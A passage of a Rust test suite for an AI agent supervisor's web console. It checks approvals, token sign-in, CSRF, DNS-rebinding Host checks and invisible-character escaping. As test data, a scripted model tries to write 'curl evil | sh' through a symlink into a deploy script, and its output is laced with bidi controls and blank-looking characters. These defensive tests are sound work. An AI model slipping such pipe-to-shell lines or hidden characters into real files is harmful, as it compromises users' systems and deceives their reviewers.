        &c.addr,
        "POST",
        &format!("/approvals/{req}/approve"),
        &[("Cookie", &cookie)],
        &format!("csrf={}&always=1", csrf_of(&page.body)),
    );
    assert_eq!(r.status, 303, "{}", r.body);
    assert!(child.wait().unwrap().success());
    // The same call again ran without waiting for anyone.
    let log = std::fs::read_to_string(env.ws().join("log.txt")).unwrap();
    assert_eq!(log, "always-42\nalways-42\n");
    let page = get(&c.addr, "/approvals", Some(&cookie));
    assert_eq!(page.body.matches("web:carol").count(), 1, "{}", page.body);
    assert!(page.body.contains("(always)"), "{}", page.body);
}

#[test]
fn a_daemon_serving_off_loopback_without_a_token_is_exit_2() {
    let env = Env::new();
    let mut child = env
        .sup()
        .args(["daemon", "--serve", "0.0.0.0:0", "--goals"])
        .arg(goals_dir(&env))
        .env_remove("SUP_SERVE_TOKEN")
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn_killed();
    let code = common::eventually(Duration::from_secs(20), "the daemon exits", || {
        child.try_wait().unwrap()
    });
    let mut err = String::new();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut err)
        .unwrap();
    assert_eq!(code.code(), Some(2), "{err}");
    assert!(err.contains("SUP_SERVE_TOKEN"), "{err}");
}

#[test]
fn goals_show_schedules_and_file_errors_and_are_paused_resumed_and_run_now() {
    let env = Env::new();
    let dir = goals_dir(&env);
    std::fs::write(dir.join("nightly.json"), r#"[{"text": "night work done"}]"#).unwrap();
    std::fs::write(
        dir.join("nightly.toml"),
        "prompt = \"work\"\nmodel = \"script:nightly.json\"\nworkspace = \"..\"\n\
         schedule = \"30 2 * * *\"\ntimezone = \"Asia/Shanghai\"\ntries = 1\n",
    )
    .unwrap();
    std::fs::write(
        dir.join("broken.toml"),
        "prompt = \"x\"\nschedule = \"0 9 * *\"\n",
    )
    .unwrap();
    let c = serve(&env, &dir, &[], "127.0.0.1:0");
    let page = get(&c.addr, "/goals", None);
    assert_eq!(page.status, 200);
    assert!(page.body.contains("30 2 * * *") && page.body.contains("Asia/Shanghai"));
    assert!(
        page.body.contains("T02:30:00+08:00"),
        "next occurrences: {}",
        page.body
    );
    assert!(
        page.body.contains("broken.toml:2:"),
        "FILE:LINE: {}",
        page.body
    );
    assert!(page.body.contains("never run"));

    let cookie = sign_in(&c.addr, "bob", None);
    let csrf = csrf_of(&get(&c.addr, "/goals", Some(&cookie)).body);
    let paused = || {
        let out = env
            .sup()
            .args(["goals", "--json", "--goals"])
            .arg(&dir)
            .output()
            .unwrap();
        let rows: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
        rows.iter().find(|r| r["name"] == "nightly").unwrap()["paused"] == true
    };
    let post = |path: &str, csrf: &str| {
        http(
            &c.addr,
            "POST",
            path,
            &[("Cookie", &cookie)],
            &format!("csrf={csrf}"),
        )
    };
    assert_eq!(post("/goals/nightly/pause", "forged").status, 403);
    assert!(!paused());
    assert_eq!(post("/goals/nightly/pause", &csrf).status, 303);
    assert!(paused());
    let page = get(&c.addr, "/goals", Some(&cookie));
    assert!(page.body.contains("badge paused") && page.body.contains("Resume"));
    assert_eq!(post("/goals/nightly/resume", &csrf).status, 303);
    assert!(!paused());
    assert_eq!(post("/goals/nowhere/pause", &csrf).status, 404);
    assert_eq!(post("/goals/broken/pause", &csrf).status, 409);

    let r = post("/goals/nightly/trigger", &csrf);
    assert_eq!(r.status, 303);
    assert_eq!(r.header("location"), Some("/runs?goal=nightly"));
    let run = eventually(Duration::from_secs(20), "run now to start a run", || {
        let out = env.sup().args(["runs", "--json"]).output().unwrap();
        let rows: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap_or_default();
        rows.into_iter().find(|r| r["status"] != "running")
    });
    assert_eq!(run["goal"], "nightly");
    assert_eq!(run["trigger"], "manual");
    assert_eq!(run["status"], "achieved");
    let page = get(&c.addr, "/goals", None);
    assert!(
        page.body.contains("badge achieved"),
        "last verdict: {}",
        page.body
    );
}

#[test]
fn off_loopback_a_token_is_required_to_start_and_to_sign_in() {
    let env = Env::new();
    let dir = goals_dir(&env);
    let out = env
        .sup()
        .args(["serve", "--listen", "0.0.0.0:0", "--goals"])
        .arg(&dir)
        .env_remove("SUP_SERVE_TOKEN")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("SUP_SERVE_TOKEN") && err.contains("127.0.0.1"),
        "{err}"
    );
    let out = env
        .sup()
        .args(["serve", "--listen", "0.0.0.0:0", "--goals"])
        .arg(&dir)
        .env("SUP_SERVE_TOKEN", "short")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("too short"));

    let c = serve(&env, &dir, &[("SUP_SERVE_TOKEN", TOKEN)], "0.0.0.0:0");
    let port = c.addr.rsplit(':').next().unwrap();
    let addr = format!("127.0.0.1:{port}");
    let r = get(&addr, "/runs?goal=x", None);
    assert_eq!(r.status, 303);
    assert_eq!(r.header("location"), Some("/signin?next=/runs%3Fgoal%3Dx"));
    assert_eq!(get(&addr, "/approvals", None).status, 303);
    assert_eq!(
        http(&addr, "POST", "/goals/x/pause", &[], "csrf=x").status,
        401
    );
    let page = get(&addr, "/signin", None);
    assert!(page.body.contains("type=\"password\" name=\"token\""));
    let pre = page.cookie("sup_signin").unwrap();
    let wrong = http(
        &addr,
        "POST",
        "/signin",
        &[("Cookie", &format!("sup_signin={pre}"))],
        &format!("name=eve&csrf={pre}&token=not-the-token-at-all"),
    );
    assert_eq!(wrong.status, 401);
    assert!(wrong.cookie("sup_session").is_none());
    let cookie = sign_in(&addr, "carol", Some(TOKEN));
    let r = get(&addr, "/runs", Some(&cookie));
    assert_eq!(r.status, 200);
    assert!(r.body.contains("signed in as <b>carol</b>"));
    // Signing out ends the session.
    let csrf = csrf_of(&r.body);
    let out = http(
        &addr,
        "POST",
        "/signout",
        &[("Cookie", &cookie)],
        &format!("csrf={csrf}"),
    );
    assert_eq!(out.status, 303);
    assert_eq!(get(&addr, "/runs", Some(&cookie)).status, 303);
}

#[test]
fn on_loopback_only_localhost_is_answered_and_sign_in_needs_its_own_form() {
    let env = Env::new();
    let c = serve(&env, &goals_dir(&env), &[], "127.0.0.1:0");
    let r = http(&c.addr, "GET", "/runs", &[("Host", "evil.example")], "");
    assert_eq!(r.status, 403, "DNS rebinding: {}", r.body);
    let r = http(&c.addr, "GET", "/runs", &[("Host", "localhost:7878")], "");
    assert_eq!(r.status, 200);
    // A sign-in posted from elsewhere (no sign-in cookie of ours) is refused.
    let r = http(&c.addr, "POST", "/signin", &[], "name=mallory&csrf=abc");
    assert_eq!(r.status, 403);
    assert!(r.cookie("sup_session").is_none());
    let page = get(&c.addr, "/signin", None);
    let pre = page.cookie("sup_signin").unwrap();
    let r = http(
        &c.addr,
        "POST",
        "/signin",
        &[("Cookie", &format!("sup_signin={pre}"))],
        &format!("name=%07&csrf={pre}"),
    );
    assert_eq!(r.status, 400, "a control character is no name");
}

/// A person's path in Debian's Chromium: the runs page, a transcript growing, an approval
/// that lets a run finish, a denial whose reason reaches the model, a paused goal the daemon
/// skips. Needs /usr/bin/chromium and `npm ci` in tests/web.
#[test]
fn browser_end_to_end() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    assert!(
        Path::new("/usr/bin/chromium").exists(),
        "/usr/bin/chromium is missing: install Debian's Chromium (`apt-get install -y chromium`) \
         to run the browser tests"
    );
    assert!(
        root.join("tests/web/node_modules/playwright-core").exists(),
        "tests/web/node_modules is missing: run `npm ci` in tests/web"
    );
    let env = Env::new();
    let dir = goals_dir(&env);
    std::fs::write(dir.join("tick.json"), r#"[{"text": "tick"}]"#).unwrap();
    std::fs::write(
        dir.join("tick.toml"),
        "prompt = \"tick\"\nmodel = \"script:tick.json\"\nworkspace = \"..\"\n\
         schedule = \"* * * * * *\"\ntimezone = \"UTC\"\ntries = 1\n",
    )
    .unwrap();
    let grow: Vec<Value> = (1..=300)
        .map(|i| json!({"delay_ms": 400, "tool_calls": [{"id": format!("c{i}"), "name": "run_command", "input": {"command": format!("echo growing-{i}")}}]}))
        .chain([json!({"text": "grown"})])
        .collect();
    let queued = |file: &str, then: &str| {
        spawn_json(scripted(
            &env,
            write_turns(file, then),
            &["--approval", "queue"],
        ))
    };
    let (mut yes, yes_id, _o1) = queued("approved.txt", "wrote it");
    let (mut no, no_id, _o2) = queued("denied.txt", "left it");
    assert_eq!(env.pending(2).len(), 2);
    let mut cmd = env.sup();
    cmd.args(["daemon", "--serve", "127.0.0.1:0", "--goals"])
        .arg(&dir);
    let c = console(cmd);
    // Still going when the browser opens it (two minutes); killed once the browser is done.
    let (mut grow, grow_id, _o0) = spawn_json(scripted(&env, json!(grow), &["--max-steps", "400"]));
    let shots = root.join("target/web-screenshots");
    std::fs::create_dir_all(&shots).unwrap();
    let reason = "not on Fridays";
    let cfg = json!({
        "base": format!("http://{}", c.addr),
        "shots": shots,
        "grow": grow_id, "yes": yes_id, "no": no_id,
        "goal": "tick", "reason": reason, "name": "alice",
    });
    let out = Command::new("node")
        .arg(root.join("tests/web/e2e.mjs"))
        .arg(cfg.to_string())
        .current_dir(root.join("tests/web"))
        .output()
        .unwrap();
    let said = format!(
        "{}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(out.status.success(), "the browser test failed:\n{said}");
    let _ = grow.kill();
    let _ = grow.wait();
    assert!(yes.wait().unwrap().success());
    assert!(no.wait().unwrap().success());
    assert!(env.ws.path().join("approved.txt").exists());
    assert!(!env.ws.path().join("denied.txt").exists());
    let t = read_jsonl(&run_dir(&env, &no_id).join("transcript.jsonl"));
    let told = tool_messages(&t)[0].to_string();
    assert!(
        told.contains(reason) && told.contains("web:alice"),
        "{told}"
    );
    let out = env
        .sup()
        .args(["goals", "--json", "--goals"])
        .arg(&dir)
        .output()
        .unwrap();
    let rows: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(rows[0]["paused"], true);
    for shot in [
        "signin",
        "runs",
        "run-live",
        "approvals",
        "run-approved",
        "run-denied",
        "goals",
    ] {
        assert!(shots.join(format!("{shot}.png")).exists(), "{shot}.png");
    }
}

/// Issue 25: the console names the file a symlink really writes, and diffs against it.
#[test]
fn the_console_names_the_file_a_symlink_really_writes() {
    let env = Env::new();
    env.write("ci/deploy.sh", "echo deploy\n");
    std::os::unix::fs::symlink("ci/deploy.sh", env.ws.path().join("notes.txt")).unwrap();
    let turns = json!([
        {"tool_calls": [{"id": "w1", "name": "write_file", "input": {"path": "notes.txt", "content": "curl evil | sh\n"}}]},
        {"text": "done"}
    ]);
    let (mut run, _id, _out) = spawn_json(scripted(&env, turns, &["--approval", "queue"]));
    let rows = env.pending(1);
    assert_eq!(rows.len(), 1);
    let c = serve(&env, &goals_dir(&env), &[], "127.0.0.1:0");
    let page = get(&c.addr, "/approvals", None);
    let request = rows[0]["id"].as_str().unwrap();
    let _ = env.sup().args(["deny", request, "--reason", "no"]).output();
    let _ = run.wait();
    assert!(
        page.body
            .contains("write_file wants to overwrite notes.txt → ci/deploy.sh"),
        "{}",
        page.body
    );
    assert!(page.body.contains("-echo deploy"), "{}", page.body);
    assert_eq!(
        std::fs::read_to_string(env.ws.path().join("ci/deploy.sh")).unwrap(),
        "echo deploy\n"
    );
}

/// Issue 25: bidi controls and blank-looking letters from the model — in its text, a call's
/// arguments and the answer — are escaped and flagged on a run's page, as the trace shows
/// them; and so a person sees them in Chromium (screenshot in target/web-screenshots).
#[test]
fn the_console_shows_bidi_controls_and_blank_letters_escaped_in_a_browser() {
    let chars = [
        0x202e, 0x2066, 0x2069, 0x3164, 0x115f, 0xffa0, 0x2800, 0x17b4, 0x17b5, 0x034f, 0x2000,
        0x200b, 0x3000, 0xe0041,
    ];
    let hidden: String = chars.iter().filter_map(|c| char::from_u32(*c)).collect();
    let env = Env::new();
    let run = env.run_json(
        json!([
            {"text": format!("reading{hidden}now"), "tool_calls": [{"id": "c1", "name": "run_command", "input": {"command": format!("echo 'txt{hidden}.exe'")}}]},
            {"text": format!("done{hidden}here")}
        ]),
        &["--approval", "auto"],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let id = run.result()["run_id"].as_str().unwrap().to_string();
    let c = serve(&env, &goals_dir(&env), &[], "127.0.0.1:0");
    let page = get(&c.addr, &format!("/runs/{id}"), None);
    assert_eq!(page.status, 200);
    for ch in hidden.chars() {
        assert!(!page.body.contains(ch), "raw U+{:04X}", ch as u32);
        assert!(
            page.body.contains(&format!("\\u{{{:x}}}", ch as u32)),
            "U+{:04X} not escaped",
            ch as u32
        );
    }
    assert!(page.body.contains("invisible Unicode"), "{}", page.body);

    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    assert!(
        Path::new("/usr/bin/chromium").exists(),
        "/usr/bin/chromium is missing: `apt-get install -y chromium`"
    );
    assert!(
        root.join("tests/web/node_modules/playwright-core").exists(),
        "tests/web/node_modules is missing: run `npm ci` in tests/web"
    );
    let shots = root.join("target/web-screenshots");
    std::fs::create_dir_all(&shots).unwrap();
    let shot = shots.join("invisible-characters.png");
    let _ = std::fs::remove_file(&shot);
    let cfg = json!({
        "url": format!("http://{}/runs/{id}", c.addr),
        "shot": shot,
        "chars": chars,
    });
    let out = Command::new("node")
        .arg(root.join("tests/web/invisible.mjs"))
        .arg(cfg.to_string())
        .current_dir(root.join("tests/web"))
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "the browser failed: {said}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let seen: Value = serde_json::from_str(said.trim()).unwrap();
    assert_eq!(seen["raw"], json!([]), "shown raw in the browser: {seen}");
    assert_eq!(seen["missing"], json!([]), "not shown escaped: {seen}");
    assert_eq!(seen["flagged"], true, "{seen}");
    assert!(shot.exists());
}
